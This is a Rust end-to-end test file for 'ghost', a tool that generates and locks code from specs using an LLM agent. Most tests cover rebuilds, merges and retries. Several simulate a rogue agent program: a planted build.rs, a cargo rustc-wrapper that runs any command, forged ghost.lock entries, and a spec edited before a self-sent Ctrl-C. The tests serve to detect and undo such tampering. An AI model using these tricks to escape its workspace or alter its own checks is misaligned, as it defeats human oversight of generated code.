    assert!(!p.entry("math.quad").failing, "{}", p.read("ghost.lock"));
    let seen = server.server.seen();
    assert_eq!(seen.len(), 4, "the next build repairs the dependent");
    assert_eq!(module_of(&seen[3]), "math.quad");

    // `--force math.quad` asks for math.quad only, not for math.double it uses.
    p.ghost(&["build", "--force", "math.quad"]).expect(0);
    let seen = server.server.seen();
    assert_eq!(seen.len(), 5);
    assert_eq!(module_of(&seen[4]), "math.quad");
}

/// A `--force` rebuild that fails keeps the module's last good code: a module using it,
/// forced too, is built against that code, not skipped.
#[test]
fn a_module_using_one_whose_forced_rebuild_failed_is_built_against_its_kept_code() {
    let _machine = shared();
    let server = Background::start_with(routed(vec![
        ("math.double", vec![code(DOUBLE_RIGHT), code(DOUBLE_WRONG)]),
        ("math.quad", vec![code(QUAD_RIGHT), code(QUAD_RIGHT)]),
    ]));
    let p = Project::new("e2e_forced_kept", &openai(&server), &[DOUBLE, QUAD]);
    p.ghost(&["build"]).expect(0);
    let run = p
        .ghost(&[
            "build",
            "--force",
            "--max-attempts",
            "1",
            "math.double",
            "math.quad",
        ])
        .expect(3);
    assert_eq!(
        p.imp("math.double"),
        DOUBLE_RIGHT,
        "the last good code is kept"
    );
    let seen = server.server.seen();
    assert_eq!(seen.len(), 4, "math.quad was asked for:\n{}", run.text());
    assert_eq!(module_of(&seen[3]), "math.quad");
    assert!(!run.text().contains("skipped"), "{}", run.text());
    p.ghost(&["build", "--locked"]).expect(0);
}

/// A module found failing because of a dependency's new code is tested again when that
/// dependency changes again, selected alone: mended by it, it is no longer failing.
#[test]
fn a_failing_module_mended_by_its_dependencys_next_code_is_green_again() {
    let _machine = shared();
    let p = Project::new("e2e_failing_mended", "", &[DOUBLE, QUAD]);
    locked_by_hand(
        &p,
        &[("math.double", DOUBLE_RIGHT), ("math.quad", QUAD_RIGHT)],
    );

    p.write(&imp_rel("math.double"), DOUBLE_ONLY_EXAMPLES);
    p.ghost(&["build", "--provider", "manual", "math.double"])
        .expect(1);
    assert!(p.entry("math.quad").failing, "{}", p.read("ghost.lock"));

    p.write(&imp_rel("math.double"), DOUBLE_RIGHT);
    p.ghost(&["build", "--provider", "manual", "math.double"])
        .expect(0);
    assert!(!p.entry("math.quad").failing, "{}", p.read("ghost.lock"));
    assert!(!p.ghost(&["status"]).text().contains("failing"));
}

/// `ghost fmt` changes how a spec is written, never what ghost generates from it: the
/// tests quote each clause in its canonical text, so a locked project stays fresh after
/// its specs are formatted (digits with `_`, escapes, a trailing comma, a clause over two
/// lines).
#[test]
fn formatting_the_specs_leaves_the_project_fresh() {
    let _machine = shared();
    let spec = (
        "text/tag.ghost",
        r#"module text.tag {
  record Tag { name: str, weight: int, }

  fn tag(name: str, weight: int) -> Tag {
    example tag("a\u{41}", 1_000) == Tag { name: "aA", weight: 1000, }
    property forall w: int in 0..10 =>
        tag("x", w).weight == w
  }

  scenario "tags" {
      let t = tag("b", 2_0)
      expect t.weight == 20
  }
}
"#,
    );
    let p = Project::new("e2e_fmt_fresh", "", &[spec]);
    p.write(
        &imp_rel("text.tag"),
        "use super::*;\n\npub fn tag(name: &str, weight: i64) -> Tag {\n    Tag { name: name.to_string(), weight }\n}\n",
    );
    p.ghost(&["build", "--provider", "manual"]).expect(0);
    p.ghost(&["build", "--locked"]).expect(0);
    p.ghost(&["fmt"]).expect(0);
    let formatted = p.read("specs/text/tag.ghost");
    assert_ne!(formatted, spec.1, "fmt changed the spec");
    assert!(formatted.contains("1000"), "{formatted}");
    let status = p.ghost(&["status"]).text();
    assert!(!status.contains("stale"), "{status}");
    p.ghost(&["build", "--locked"]).expect(0);
}

/// With no agent configured, `ghost build` still does what needs none: it tests and locks
/// code written by hand, and finds a fresh project fresh; it names the modules that need
/// an agent, and exits 2, only when there are some.
#[test]
fn a_build_without_an_agent_does_what_needs_none() {
    let _machine = shared();
    let spec = (
        "text/tag.ghost",
        "module text.tag {\n  fn tag(name: str) -> str {\n    example tag(\"a\") == \"#a\"\n  }\n}\n",
    );
    let p = Project::new("e2e_no_agent", "", &[spec]);
    let run = p.ghost(&["build"]).expect(2);
    assert!(
        run.text().contains("`text.tag` (it has no code yet)"),
        "{}",
        run.text()
    );
    p.write(
        &imp_rel("text.tag"),
        "use super::*;\n\npub fn tag(name: &str) -> String {\n    format!(\"#{name}\")\n}\n",
    );
    p.ghost(&["build"]).expect(0);
    assert_eq!(p.entry("text.tag").agent, "manual");
    p.ghost(&["build"]).expect(0);
    let run = p.ghost(&["build", "--force"]).expect(2);
    assert!(
        run.text().contains("--force asks for new code"),
        "{}",
        run.text()
    );
}

/// A hand-edited module is kept as it is, and a fresh module using it is reported fresh,
/// not skipped as if it had failed.
#[test]
fn a_fresh_module_beside_a_hand_edited_dependency_is_fresh() {
    let _machine = shared();
    let server = Background::start_with(script(vec![]));
    let p = Project::new("e2e_kept_dep", &openai(&server), &[DOUBLE, QUAD]);
    locked_by_hand(
        &p,
        &[("math.double", DOUBLE_RIGHT), ("math.quad", QUAD_RIGHT)],
    );
    p.write(
        &imp_rel("math.double"),
        &format!("{DOUBLE_RIGHT}// edited\n"),
    );
    let run = p.ghost(&["build"]).expect(1);
    let quad = run
        .stderr
        .lines()
        .find(|l| l.starts_with("math.quad"))
        .unwrap_or_else(|| panic!("{}", run.text()));
    assert!(quad.contains("fresh"), "{}", run.text());
    assert!(
        run.stderr.contains("1 of 2 modules green"),
        "{}",
        run.text()
    );
    assert!(server.server.seen().is_empty());
}

/// Functions moved around a spec change its fingerprints but nothing its code was
/// written from: the build tests the code and re-locks it without asking the agent.
#[test]
fn declarations_moved_around_a_spec_are_relocked_without_the_agent() {
    let _machine = shared();
    let server = Background::start_with(script(vec![]));
    let one = "  fn one() -> int {\n    \"One.\"\n    example one() == 1\n  }\n";
    let two = "  fn two() -> int {\n    \"Two.\"\n    example two() == 2\n  }\n";
    let spec = |a: &str, b: &str| format!("module solo {{\n{a}\n{b}}}\n");
    let first = spec(one, two);
    let p = Project::new("e2e_moved", &openai(&server), &[("solo.ghost", &first)]);
    locked_by_hand(
        &p,
        &[(
            "solo",
            "pub fn one() -> i64 {\n    1\n}\n\npub fn two() -> i64 {\n    2\n}\n",
        )],
    );
    p.write("specs/solo.ghost", &spec(two, one));
    let run = p.ghost(&["build"]).expect(0);
    assert!(run.stderr.contains("re-locked"), "{}", run.text());
    assert!(server.server.seen().is_empty(), "no agent call");
    p.ghost(&["build", "--locked"]).expect(0);
}

/// Two branches that each locked a module of their own, merged: git leaves ghost.lock
/// (the two new entries side by side in the sorted file) and the crate's `lib.rs` with
/// conflict markers, though no entry conflicts. A save hook's `check`, and `status`, say
/// so and what to do, before CI's `build --locked` refuses them; `build` writes both
/// without the markers, and says nothing of them then.
#[test]
fn a_merge_of_two_branches_each_adding_a_module_is_told_by_check() {
    let _machine = shared();
    let p = Project::new("e2e_lock_two_adds", "", &[DOUBLE, SHOUT]);
    locked_by_hand(
        &p,
        &[("math.double", DOUBLE_RIGHT), ("text.shout", SHOUT_RIGHT)],
    );
    let lock = p.read("ghost.lock");
    let double_at = lock.find("[[module]]").expect("an entry");
    let shout_at = lock.rfind("[[module]]").expect("a second entry");
    assert!(double_at < shout_at, "{lock}");
    let (header, ours, theirs) = (
        &lock[..double_at],
        &lock[double_at..shout_at],
        &lock[shout_at..],
    );
    p.write(
        "ghost.lock",
        &format!("{header}<<<<<<< HEAD\n{ours}=======\n{theirs}>>>>>>> other\n"),
    );
    let lib = p.read("generated/src/lib.rs");
    // As git leaves it: the header line both sides have, then the `pub mod`s of each.
    let (head, mods) = lib.split_at(lib.find('\n').expect("a header line") + 1);
    p.write(
        "generated/src/lib.rs",
        &format!("{head}<<<<<<< HEAD\n{mods}=======\n{mods}>>>>>>> other\n"),
    );
    for command in ["check", "status"] {
        let run = p.ghost(&[command]).expect(0);
        assert!(
            run.stderr.contains("ghost.lock has merge conflict markers")
                && run.stderr.contains("run `ghost build`"),
            "{command}: {}",
            run.text()
        );
        assert!(
            run.stderr
                .contains("`generated/src/lib.rs` has merge conflict markers: run `ghost build`"),
            "{command}: {}",
            run.text()
        );
    }
    p.ghost(&["build", "--locked"]).expect(1);
    let build = p.ghost(&["build", "--provider", "manual"]).expect(0);
    assert!(
        !build.stderr.contains("merge conflict markers"),
        "{}",
        build.text()
    );
    assert_eq!(p.read("ghost.lock"), lock, "written without the markers");
    assert_eq!(p.read("generated/src/lib.rs"), lib);
    let check = p.ghost(&["check"]).expect(0);
    assert!(!check.stderr.contains("merge conflict"), "{}", check.text());
    p.ghost(&["build", "--locked"]).expect(0);
}

/// A merge that leaves ghost.lock with conflict markers does not stop ghost: each
/// conflicting entry is read from the side that locked the code on disk, `check` says so
/// and still tells the states, and `build` writes the lock without the markers.
#[test]
fn a_lock_left_in_conflict_by_a_merge_is_settled_by_the_code_on_disk() {
    let _machine = shared();
    let p = Project::new("e2e_lock_conflict", "", &[DOUBLE, SHOUT]);
    locked_by_hand(
        &p,
        &[("math.double", DOUBLE_RIGHT), ("text.shout", SHOUT_RIGHT)],
    );
    let lock = p.read("ghost.lock");
    let double = p.entry("math.double");
    // The other branch locked other code for `math.double`; this checkout has ours.
    let theirs = lock.replace(&double.implementation, &"0".repeat(64));
    let (header, body) = lock.split_at(lock.find("version").expect("a version line"));
    let (_, their_body) = theirs.split_at(theirs.find("version").expect("a version line"));
    p.write(
        "ghost.lock",
        &format!("{header}<<<<<<< HEAD\n{body}=======\n{their_body}>>>>>>> other\n"),
    );
    let locked = p.ghost(&["build", "--locked"]).expect(1);
    assert!(
        locked.stderr.contains("merge conflict markers"),
        "{}",
        locked.text()
    );
    assert!(
        !locked.stderr.contains(" ok math.double"),
        "the tests decide nothing here and are not run:\n{}",
        locked.text()
    );
    let check = p.ghost(&["check"]).expect(0);
    assert!(
        check.stderr.contains("merge conflicts") && check.stderr.contains("`math.double`"),
        "{}",
        check.text()
    );
    assert!(!check.text().contains("tampered"), "{}", check.text());
    p.ghost(&["status"]).expect(0);
    // A build stopped before it starts (an unknown provider) writes nothing: the markers
    // stay for the next one. (A broken agent's settings stop no build with nothing to do.)
    p.ghost(&["build", "--provider", "nosuch"]).expect(2);
    assert!(p.read("ghost.lock").contains("<<<<<<<"));
    p.ghost(&["build", "--provider", "manual"]).expect(0);
    assert_eq!(
        p.read("ghost.lock"),
        lock,
        "written back without the markers"
    );
    p.ghost(&["build", "--locked"]).expect(0);
}

/// A `build.rs` or `src/main.rs` someone else put in the generated crate (an agent
/// program writing past its scratch copy) is neither compiled nor run by `ghost test` or
/// CI's `build --locked`: the manifest names ghost's own targets only.
#[test]
fn a_build_script_planted_in_the_generated_crate_never_runs() {
    let _machine = shared();
    let p = Project::new("e2e_planted_build_rs", "", &[DOUBLE]);
    locked_by_hand(&p, &[("math.double", DOUBLE_RIGHT)]);
    let marker = p.root.join("planted-ran");
    p.write(
        "generated/build.rs",
        &format!(
            "fn main() {{ std::fs::write({:?}, \"ran\").unwrap(); }}\n",
            marker.display().to_string()
        ),
    );
    p.write(
        "generated/src/main.rs",
        "fn main() { this does not compile }\n",
    );
    p.ghost(&["test"]).expect(0);
    p.ghost(&["build", "--locked"]).expect(0);
    assert!(!marker.exists(), "the planted build script ran");

    // Cargo's settings in the crate's folder (a `rustc-wrapper` runs any program) stop
    // every command that would build it, naming the file.
    p.write(
        "generated/.cargo/config.toml",
        "[build]\nrustc-wrapper = \"/bin/false\"\n",
    );
    for args in [&["test"][..], &["build", "--locked"], &["build"]] {
        let run = p.ghost(args).expect(2);
        assert!(
            run.text()
                .contains(".cargo` is where cargo (or rustup) reads settings for the generated crate, and ghost did not put it there"),
            "{args:?}:\n{}",
            run.text()
        );
    }
}

/// An agent program that leaves cargo settings where cargo reads them for its scratch
/// crate stops the build before cargo runs: beside the crate in `.ghost/` (ghost's own
/// folders), or at the project's root (settings that were not there when it started).
#[test]
fn cargo_settings_an_agent_leaves_stop_the_build() {
    let _machine = shared();
    // The folder, from the scratch crate's, and what the build says.
    let places = [
        (
            "e2e_scratch_cargo_config",
            "..",
            "ghost did not put it there",
        ),
        (
            "e2e_root_cargo_config",
            "../../..",
            ".cargo/config.toml` changed during the build, not by ghost",
        ),
    ];
    for (name, up, said) in places {
        let p = Project::new(name, "", &[DOUBLE]);
        let marker = p.root.join("wrapper-ran");
        let body = format!(
            "#!/bin/sh\ncat > /dev/null\nmkdir -p {up}/.cargo\nprintf '[build]\\nrustc-wrapper = \"/bin/sh -c touch {marker}\"\\n' > {up}/.cargo/config.toml\ncat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\n",
            marker = marker.display()
        );
        use_command_agent(&p, &body);
        let run = p.ghost(&["build"]);
        assert_ne!(run.code, 0, "{name}: {}", run.text());
        assert!(run.text().contains(said), "{name}: {}", run.text());
        assert!(!marker.exists(), "{name}: the planted wrapper ran");
        assert!(
            !p.root.join("ghost.lock").exists() || p.lock().get("math.double").is_none(),
            "{name}: nothing locked"
        );
    }
}

/// An agent program that writes into `ghost.lock` (a forged entry) in a build that then
/// writes nothing more: the lock ghost keeps is put back, the planted text kept under
/// `.ghost/kept/` and said. It was left in the lock, unsaid.
#[test]
fn a_lock_an_agent_program_writes_is_put_back_and_kept() {
    let _machine = shared();
    let p = Project::new("e2e_agent_writes_the_lock", "", &[DOUBLE]);
    locked_by_hand(&p, &[("math.double", DOUBLE_RIGHT)]);
    let lock_before = p.read("ghost.lock");
    use_command_agent(
        &p,
        "#!/bin/sh\ncat > /dev/null\necho '# planted by the agent' >> ../../../ghost.lock\nexit 1\n",
    );
    let run = p.ghost(&["build", "--force", "--max-attempts", "1"]);
    assert_ne!(run.code, 0, "{}", run.text());
    let said = "`ghost.lock` changed during the build, not by ghost";
    assert!(run.text().contains(said), "{}", run.text());
    assert_eq!(p.read("ghost.lock"), lock_before, "the lock is put back");
    let kept = walkdir::WalkDir::new(p.root.join(".ghost/kept"))
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_name() == "ghost.lock")
        .map(|e| std::fs::read_to_string(e.path()).expect("kept lock"))
        .collect::<Vec<_>>();
    assert!(
        kept.iter().any(|t| t.contains("# planted by the agent")),
        "{kept:?}"
    );
    assert_eq!(
        p.imp("math.double"),
        DOUBLE_RIGHT,
        "the accepted code stays"
    );
}

/// Ctrl-C while an agent program runs that has changed a spec: the build stops (exit
/// 130), and the spec's text from before is kept and the change said, as when the
/// program ends by itself. Both were lost: the comparison was made only after the run.
#[cfg(unix)]
#[test]
fn a_spec_an_agent_program_changed_before_ctrl_c_is_kept_and_said() {
    let _machine = shared();
    let p = Project::new("e2e_agent_spec_then_ctrl_c", "", &[DOUBLE]);
    locked_by_hand(&p, &[("math.double", DOUBLE_RIGHT)]);
    let spec_before = p.read("specs/math/double.ghost");
    // The program's parent is ghost: it is interrupted as a user's Ctrl-C would, and
    // the program waits to be stopped with the rest.
    use_command_agent(
        &p,
        "#!/bin/sh\ncat > /dev/null\necho '// planted by the agent' >> ../../../specs/math/double.ghost\nkill -INT $PPID\nexec sleep 1000 </dev/null >/dev/null 2>&1\n",
    );
    let run = p.ghost(&["build", "--force"]).expect(130);
    assert!(
        run.text()
            .contains("`specs/math/double.ghost` changed while the agent ran"),
        "{}",
        run.text()
    );
    assert!(
        p.read("specs/math/double.ghost").contains("planted"),
        "the spec is left as it is"
    );
    let kept = walkdir::WalkDir::new(p.root.join(".ghost/kept"))
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_name() == "double.ghost")
        .map(|e| std::fs::read_to_string(e.path()).expect("kept spec"))
        .collect::<Vec<_>>();
    assert_eq!(kept, [spec_before], "its text from before is kept");
    assert_eq!(
        p.imp("math.double"),
        DOUBLE_RIGHT,
        "the accepted code stays"
    );
}

/// `command = "sh agents/run.sh"`: the program runs in the module's scratch folder, where
/// the script's path, relative to the project, names nothing. The failure says so, with
/// what to write instead: it showed the shell's "cannot open" alone, at every attempt.
#[test]
fn a_script_named_relative_to_the_project_is_said_to_be_missing_where_the_program_runs() {
    let _machine = shared();
    let p = Project::new("e2e_agent_script_relative", "", &[DOUBLE]);
    p.write("agents/run.sh", "cat > /dev/null\necho never\n");
    p.configure(
        "provider = \"command\"\ncommand = \"sh agents/run.sh\"\n",
        "",
    );
    let run = p.ghost(&["build", "--max-attempts", "1"]);
    assert_eq!(run.code, 3, "{}", run.text());
    assert!(
        run.text().contains("where `agents/run.sh` (a path in `command` relative to the project) is not: give its absolute path, or start `command` with it (`./agents/run.sh`)"),
        "{}",
        run.text()
    );
}

/// A lock entry of a module no spec declares any more (its spec deleted) is shown by
/// `check` and `status`, as `build --locked` fails on it, and `build` drops it.
#[test]
fn lock_entries_no_spec_declares_are_shown_before_ci_fails_on_them() {
    let _machine = shared();
    let p = Project::new("e2e_orphans", "", &[DOUBLE, SHOUT]);
    locked_by_hand(
        &p,
        &[("math.double", DOUBLE_RIGHT), ("text.shout", SHOUT_RIGHT)],
    );
    std::fs::remove_file(p.root.join("specs").join(SHOUT.0)).expect("delete a spec");
    let check = p.ghost(&["check"]).expect(0);
    assert!(
        check.stderr.contains("orphaned text.shout"),
        "{}",
        check.text()
    );
    let status = p.ghost(&["status"]).expect(1);
    assert!(
        status
            .stdout
            .lines()
            .any(|l| l.starts_with("text.shout") && l.contains("orphaned")),
        "{}",
        status.text()
    );
    let locked = p.ghost(&["build", "--locked"]).expect(1);
    assert!(
        locked
            .stderr
            .contains("`generated/src/lib.rs` is not what the specs generate now"),
        "paths from the current folder:\n{}",
        locked.text()
    );
    // A value it pinned is left behind too, and named.
    let pin = p
        .root
        .join("generated/tests/snapshots/text_shout__loud.snap");
    std::fs::create_dir_all(pin.parent().expect("a folder")).expect("mkdir");
    std::fs::write(&pin, "---\nsource: tests/text_shout.rs\n---\n\"A!\"\n").expect("pin");
    let build = p.ghost(&["build", "--provider", "manual"]).expect(0);
    assert!(p.lock().get("text.shout").is_none());
    assert!(
        build
            .stderr
            .contains("dropped `text.shout` from ghost.lock: no spec declares it any more (its files `generated/src/text/shout/imp.rs`, `generated/src/text/shout/mod.rs`, `generated/tests/text_shout.rs`, `generated/tests/snapshots/text_shout__loud.snap` are left"),
        "the user is told what is left behind:\n{}",
        build.text()
    );
    let check = p.ghost(&["check"]).expect(0);
    assert!(!check.text().contains("orphaned"), "{}", check.text());
}

/// A checkout that turns every line ending into `\r\n` (git's `core.autocrlf` on
/// Windows) holds the same code: no module is tampered or stale, and CI's `--locked` run
/// passes, so that neither side re-locks hashes the other side then calls hand edits.
#[test]
fn crlf_checkouts_are_the_same_code() {
    let _machine = shared();
    let spec = (
        "text/tag.ghost",
        "module text.tag {\n  fn tag(name: str) -> str {\n    example tag(\"a\") == \"#a\"\n  }\n}\n",
    );
    let p = Project::new("e2e_crlf", "", &[spec]);
    p.write(
        &imp_rel("text.tag"),
        "use super::*;\n\npub fn tag(name: &str) -> String {\n    format!(\"#{name}\")\n}\n",
    );
    p.ghost(&["build", "--provider", "manual"]).expect(0);
    let lock = p.read("ghost.lock");
    for entry in walkdir::WalkDir::new(p.root.join("generated")) {
        let entry = entry.expect("walk generated/");
        let path = entry.path();
        if path.components().any(|c| c.as_os_str() == "target") || !entry.file_type().is_file() {
            continue;
        }
        let text = std::fs::read_to_string(path).expect("text");
        std::fs::write(path, text.replace('\n', "\r\n")).expect("write CRLF");
    }
    let check = p.ghost(&["check"]).expect(0).text();
    assert!(
        !check.contains("tampered") && !check.contains("stale"),
        "{check}"
    );
    let status = p.ghost(&["status"]).expect(0).text();
    assert!(status.contains("fresh"), "{status}");
    p.ghost(&["build", "--locked"]).expect(0);
    p.ghost(&["build", "--provider", "manual"]).expect(0);
    assert_eq!(p.read("ghost.lock"), lock, "nothing re-locked");
}

/// New code for a module re-tests what uses it, though their fingerprints match: a hand
/// edit of `math.double` that keeps its own examples but breaks `math.quad` is adopted,
/// and `math.quad`, fresh by its hashes, is found failing (manual provider: a repair
/// prompt, exit 1); with an agent, it is repaired.
#[test]
fn new_code_for_a_dependency_tests_its_dependents_again() {
    let _machine = shared();
    let server = Background::start_with(routed(vec![
        ("math.double", vec![code(DOUBLE_RIGHT)]),
        ("math.quad", vec![code(QUAD_RIGHT), code(QUAD_PATCHED)]),
    ]));
    let p = Project::new("e2e_dependents", &openai(&server), &[DOUBLE, QUAD]);
    p.ghost(&["build"]).expect(0);
    assert_eq!(server.server.seen().len(), 2);

    p.write(&imp_rel("math.double"), DOUBLE_ONLY_EXAMPLES);
    let run = p.ghost(&["build", "--provider", "manual"]).expect(1);
    assert!(
        run.text().contains("math.quad    failing"),
        "the dependent is tested again and fails:\n{}",
        run.text()
    );
    assert_eq!(
        p.imp("math.double"),
        DOUBLE_ONLY_EXAMPLES,
        "the edit was adopted"
    );
    let status = p.ghost(&["status"]).text();
    assert!(
        status.contains("failing"),
        "known failing, not fresh:\n{status}"
    );

    p.ghost(&["build"]).expect(0);
    let seen = server.server.seen();
    assert_eq!(seen.len(), 3, "one repair, for the dependent");
    assert_eq!(module_of(&seen[2]), "math.quad");
    assert_eq!(p.imp("math.quad"), QUAD_PATCHED);
}

/// A changed doc string regenerates that module alone: one request, for it, a revision
/// showing the code and what changed, answered with `// unchanged`; the other module's
/// code and lock entry stay as they were.
#[test]
fn a_doc_change_regenerates_that_module_alone() {
    let _machine = shared();
    let server = Background::start_with(routed(vec![
        (
            "math.double",
            vec![code(DOUBLE_RIGHT), code("// unchanged\n")],
        ),
        ("text.shout", vec![code(SHOUT_RIGHT)]),
    ]));
    let p = Project::new("e2e_docs", &openai(&server), &[DOUBLE, SHOUT]);
    let run = p.ghost(&["build"]).expect(0);
    let modules: Vec<String> = server.server.seen().iter().map(module_of).collect();
    assert_eq!(modules.len(), 2, "one request each:\n{}", run.text());
    let shout_imp = p.bytes(&imp_rel("text.shout"));
    let shout_entry = p.entry("text.shout");

    p.spec(
        DOUBLE.0,
        &DOUBLE
            .1
            .replace("\"Twice n.\"", "\"Two times n, for every n.\""),
    );
    let rebuilt = p.ghost(&["build"]).expect(0);
    assert!(
        rebuilt
            .text()
            .contains("the agent changed nothing for the new spec text"),
        "said, not silent:\n{}",
        rebuilt.text()
    );
    let seen = server.server.seen();
    assert_eq!(seen.len(), 3, "one request for the changed module");
    assert_eq!(module_of(&seen[2]), "math.double");
    let revision = seen[2].prompt();
    assert!(
        revision.contains("# Revision")
            && revision.contains("-/// Twice n.\n+/// Two times n, for every n.\n")
            && revision.contains(DOUBLE_RIGHT)
            && revision.contains("`// unchanged`"),
        "{revision}"
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT, "kept as it was");
    let entry = p.entry("math.double");
    assert_eq!((entry.attempts, entry.agent.as_str()), (1, "openai"));
    assert!(p.run_log().contains("\"kind\":\"revise\""));
    assert_eq!(p.bytes(&imp_rel("text.shout")), shout_imp);
    assert_eq!(p.entry("text.shout"), shout_entry);
}

/// A function the tests never call is still part of the interface: code that leaves it
/// out does not compile (rustc names it, and the repair says so), and is never locked.
#[test]
fn code_missing_an_untested_function_is_not_accepted() {
    let _machine = shared();
    let spec = (
        "math/halves.ghost",
        "module math.halves {\n  fn double(n: int) -> int {\n    example double(2) == 4\n  }\n  fn half(n: int) -> int {\n    \"n divided by 2, rounded down.\"\n  }\n}\n",
    );
    let both = "pub fn double(n: i64) -> i64 {\n    n * 2\n}\n\npub fn half(n: i64) -> i64 {\n    n.div_euclid(2)\n}\n";
    let (p, seen) = build_green(
        "e2e_untested",
        &[spec],
        vec![code(DOUBLE_RIGHT), code(both)],
        &[],
    );
    assert_eq!(seen.len(), 2, "the code without `half` was not accepted");
    // rustc names it: the documented `half` is re-exported by name from mod.rs.
    let repair = seen[1].prompt();
    assert!(
        repair.contains("no `half` in") || repair.contains("cannot find value `half`"),
        "{repair}"
    );
    assert_eq!(p.imp("math.halves"), both);
}

/// A failing test that prints thousands of lines: the repair shows its panic (the
/// example and its values), and only the last lines it printed.
#[test]
fn a_repair_shows_the_panic_of_a_test_that_printed_a_lot() {
    let _machine = shared();
    let chatty = "pub fn double(n: i64) -> i64 {\n    for i in 0..3000 {\n        println!(\"debug line {i}\");\n    }\n    n + 2\n}\n";
    let (_p, seen) = build_green(
        "e2e_chatty",
        &[DOUBLE],
        vec![code(chatty), code(DOUBLE_RIGHT)],
        &[],
    );
    let repair = seen[1].prompt();
    assert!(
        repair.contains("double(-3) == -6")
            && repair.contains("left: -1")
            && repair.contains("the test printed more than ")
            && repair.contains("lines, the last 5:\ndebug line 2995\n")
            && repair.contains("debug line 2999\n")
            && !repair.contains("debug line 100\n"),
        "{repair}"
    );
}

/// A revision answered with the one function the change touches: it is put in place of
/// that function, and the rest of the code kept.
#[test]
fn a_revision_answered_with_one_function_keeps_the_rest() {
    let _machine = shared();
    let both = "pub fn double(n: i64) -> i64 {\n    n * 2\n}\n\npub fn triple(n: i64) -> i64 {\n    n * 3\n}\n";
    let server = Background::start_with(script(vec![
        code(both),
        code("pub fn triple(n: i64) -> i64 {\n    n + n + n\n}\n"),
    ]));
    let p = Project::new("e2e_revision", &openai(&server), &[PAIR]);
    p.ghost(&["build"]).expect(0);
    p.spec(
        PAIR.0,
        &PAIR
            .1
            .replace("\"Three times n.\"", "\"Three times n, as a sum.\""),
    );
    p.ghost(&["build"]).expect(0);
    let seen = server.server.seen();
    assert_eq!(seen.len(), 2);
    assert!(seen[1].prompt().contains("+/// Three times n, as a sum."));
    assert_eq!(
        p.imp("math.pair"),
        "pub fn double(n: i64) -> i64 {\n    n * 2\n}\n\npub fn triple(n: i64) -> i64 {\n    n + n + n\n}\n"
    );
}

/// A dependency's signature changes: the dependency is regenerated (its prose changed),
/// and its dependent, whose code no longer compiles against it, is repaired with the
/// compiler's errors.
#[test]
fn a_signature_change_regenerates_the_dependents_it_breaks() {
    let _machine = shared();
    let server = Background::start_with(routed(vec![
        (
            "math.double",
            vec![code(DOUBLE_RIGHT), code(DOUBLE_FLOAT_RIGHT)],
        ),
        ("math.quad", vec![code(QUAD_RIGHT), code(QUAD_FLOAT_RIGHT)]),
    ]));
    let p = Project::new("e2e_signature", &openai(&server), &[DOUBLE, QUAD]);
    p.ghost(&["build"]).expect(0);
    assert_eq!(server.server.seen().len(), 2);
    let quad_before = p.entry("math.quad");

    p.spec(DOUBLE_FLOAT.0, DOUBLE_FLOAT.1);
    p.ghost(&["build"]).expect(0);
    let seen = server.server.seen();
    let modules: Vec<String> = seen.iter().map(module_of).collect();
    assert_eq!(
        modules,
        ["math.double", "math.quad", "math.double", "math.quad"],
        "dependencies first"
    );
    let quad = seen[3].prompt();
    assert!(
        quad.contains("fn double(x: f64) -> f64"),
        "the new interface:\n{quad}"
    );
    assert!(
        quad.contains("# Repair"),
        "the old code is tested first:\n{quad}"
    );
    assert!(
        quad.contains("mismatched types"),
        "with the compiler's errors:\n{quad}"
    );
    assert_eq!(p.imp("math.double"), DOUBLE_FLOAT_RIGHT);
    assert_eq!(p.imp("math.quad"), QUAD_FLOAT_RIGHT);
    assert_ne!(p.entry("math.quad").deps, quad_before.deps);
}

/// When the dependent's repair fails, its last accepted code stays, and it does not
/// compile against the dependency's new signature: the build says the crate is broken,
/// where, and what to do (and says nothing of the kind when every module is green).
#[test]
fn a_dependent_left_behind_by_a_signature_change_is_reported_as_breaking_the_crate() {
    let _machine = shared();
    let server = Background::start_with(routed(vec![
        (
            "math.double",
            vec![code(DOUBLE_RIGHT), code(DOUBLE_FLOAT_RIGHT)],
        ),
        ("math.quad", vec![code(QUAD_RIGHT), code(QUAD_WRONG)]),
    ]));
    let p = Project::new("e2e_left_behind", &openai(&server), &[DOUBLE, QUAD]);
    let green = p.ghost(&["build"]).expect(0).text();
    assert!(!green.contains("does not compile"), "{green}");

    p.spec(DOUBLE_FLOAT.0, DOUBLE_FLOAT.1);
    let run = p.ghost(&["build", "--max-attempts", "1"]).expect(3).text();
    assert_eq!(
        p.imp("math.quad"),
        QUAD_RIGHT,
        "the last accepted code stays"
    );
    assert!(
        run.contains(
            "the generated crate does not compile as it is now (in the code of `math.quad`)"
        ) && run.contains("src/math/quad/imp.rs")
            && run.contains("keeps its last accepted code")
            && run.contains("`ghost build math.quad` tries again"),
        "{run}"
    );
}

// ---------------------------------------------------------------------------------------
// Server faults

/// 500, then 429 with `Retry-After: 0` (both retried by the provider within one attempt),
/// then a reply cut off by the token limit (a failed attempt, its reason fed back), then
/// the code. OpenAI wire format, whole replies.
#[test]
fn server_errors_are_retried_and_a_cut_off_reply_is_a_failed_attempt() {
    let _machine = shared();
    let server = Background::start_with(script(vec![
        raw(Answer::json(500, r#"{"error":{"message":"boom"}}"#)),
        raw(Answer::json(429, r#"{"error":{"message":"slow down"}}"#)
            .with_header("retry-after", "0")),
        cut(),
        code(DOUBLE_RIGHT),
    ]));
    let agent = http_agent("openai", &server, false);
    let p = Project::new("e2e_faults", &agent, &[DOUBLE]);
    let run = p.ghost(&["build"]).expect(0);
    assert!(
        run.stderr.contains("boom; asking again in")
            && run.stderr.contains("slow down")
            && run.stderr.contains("asking again in 0.0s (retry 2 of 4)"),
        "each retry is said:\n{}",
        run.stderr
    );
    let seen = server.server.seen();
    assert_eq!(seen.len(), 4);
    assert!(
        seen.iter().all(|s| s.json().get("stream").is_none()),
        "whole replies"
    );
    assert_eq!(seen[0].body, seen[2].body, "a retry sends the same request");
    let repair = seen[3].prompt();
    assert!(
        repair.contains("cut off"),
        "the reason is fed back:\n{repair}"
    );
    assert_eq!(
        p.entry("math.double").attempts,
        2,
        "retries are not attempts; the cut-off reply is"
    );
    p.assert_no_key();
}

/// An empty reply, one without code and one cut off: the user reads what happened to
/// each, the model is told how to answer (the instruction is the prompt's, not the
/// user's to follow).
#[test]
fn replies_without_code_are_told_to_the_user_as_what_happened() {
